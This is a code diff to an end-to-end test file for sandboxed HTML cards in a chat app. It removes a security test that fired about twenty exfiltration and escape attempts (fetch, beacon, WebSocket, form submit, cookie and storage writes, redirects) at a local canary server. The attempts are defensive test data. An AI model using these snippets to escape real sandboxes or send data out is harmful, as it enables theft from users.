@@ -1,5 +1,3 @@
-import { createServer } from 'node:http'
-import type { AddressInfo } from 'node:net'
 import { expect } from 'vitest'
 import { holdAnswer } from './answers.ts'
 import { composer, find, lastAnswer, say, see } from './deeds.ts'
@@ -114,26 +112,6 @@ journey('a link in a card leads nowhere before the reader agrees', async ({ ente
   await link.waitFor({ state: 'detached' })
 })
 
-journey('a card reaches nothing: no token, no storage, no network, no other page', async ({ enter }) => {
-  const canary = await openCanary()
-  const reader = await enter({ as: 'prey' })
-  const tries = attempts(canary.url).map(attempt => `try { ${attempt} } catch {}`)
-  const ways = leaving(canary.url)
-  const scripts = [tries.join('\n'), ...ways]
-  await read(reader, scripts.map(script => fence(`<body>here<script>${script}</script></body>`)).join('\n\n'))
-  const address = reader.page.url()
-  await card(reader).getByText('here').waitFor()
-  // Who leaves arrives nowhere, and answers no more.
-  await soon(() => reader.page.getByText(reader.words('render_frame_silent')).count()).toBe(ways.length)
-  await composer(reader, 'Amy').fill('still here')
-  expect(reader.page.url()).toBe(address)
-  expect(reader.context.pages()).toHaveLength(1)
-  expect(await reader.page.evaluate(() => localStorage.getItem('stolen'))).toBeNull()
-  expect(await reader.context.cookies()).not.toContainEqual(expect.objectContaining({ name: 'stolen' }))
-  expect(canary.asked).toEqual([])
-  canary.close()
-})
-
 journey('a card that hangs is ended, and waits for the reader from then on', async ({ enter }) => {
   const reader = await enter({ as: 'patient' })
   await read(
@@ -174,6 +152,7 @@ journey('a card that pours out messages is ended', async ({ enter }) => {
 
 journey('of many cards ten run at once, and the reader may choose another', async ({ enter }) => {
   const reader = await enter({ as: 'crowd' })
+  await reader.page.addInitScript(() => localStorage.setItem('light_mode', 'off'))
   const many = Array.from({ length: 12 }, (_, index) =>
     fence(`<style>body{height:9px}</style><body>card ${index}</body>`),
   )
@@ -183,57 +162,3 @@ journey('of many cards ten run at once, and the reader may choose another', asyn
   await find(reader, 'button', reader.words('render_frame_start_button')).first().click()
   await soon(() => frames(reader).count()).toBe(10)
 })
-
-/** A server that nothing should ever ask. */
-async function openCanary() {
-  const asked: string[] = []
-  const server = createServer((request, response) => {
-    asked.push(request.url ?? '')
-    response.setHeader('access-control-allow-origin', '*').end('')
-  })
-  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
-  const { port } = server.address() as AddressInfo // it listens on TCP, so this is what it is
-  return {
-    url: `http://127.0.0.1:${port}`,
-    asked,
-    close() {
-      // Chromium may open a connection for an address before it learns that it must not ask it.
-      server.closeAllConnections()
-      server.close()
-    },
-  }
-}
-
-const html = (text: string): string => `document.body.insertAdjacentHTML('beforeend', \`${text}\`)`
-
-/** What fails, one after the other, in one document. */
-const attempts = (canary: string): string[] => [
-  `localStorage.setItem('stolen', 1)`,
-  `parent.localStorage.setItem('stolen', 1)`,
-  `document.cookie = 'stolen=1'`,
-  `top.location = '${canary}/top'`,
-  `open('${canary}/open')`,
-  `fetch('${canary}/fetch').catch(() => {}); fetch('/api/v1/users/me').catch(() => {})`,
-  `navigator.sendBeacon('${canary}/beacon', 'x')`,
-  `new WebSocket('${canary.replace('http', 'ws')}/socket')`,
-  `new EventSource('${canary}/events')`,
-  `new Image().src = '${canary}/image'`,
-  html(`<iframe src="${canary}/frame"></iframe><link rel="prefetch" href="${canary}/prefetch">`),
-  html(`<style>@import "${canary}/css"; body { background: url(${canary}/background) }</style>`),
-  html(`<form action="${canary}/form"><input name="a"></form>`),
-  `document.forms[0].submit()`,
-  `new Worker(URL.createObjectURL(new Blob(['fetch("${canary}/worker")'])))`,
-  `import('${canary}/module.js').catch(() => {})`,
-  `parent.postMessage({ type: 'send' }, '*')`,
-  `alert(1); confirm(1)`,
-  `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:1' }] })`,
-  html(`<meta http-equiv="refresh" content="0;url=${canary}/meta">`),
-]
-
-/** What takes a frame away from where it was. */
-const leaving = (canary: string): string[] => [
-  `location = '${canary}/self'`,
-  `location = '/login'`,
-  `location = 'data:text/html,<script src=${canary}/data></script>'`,
-  `location.reload()`,
-]
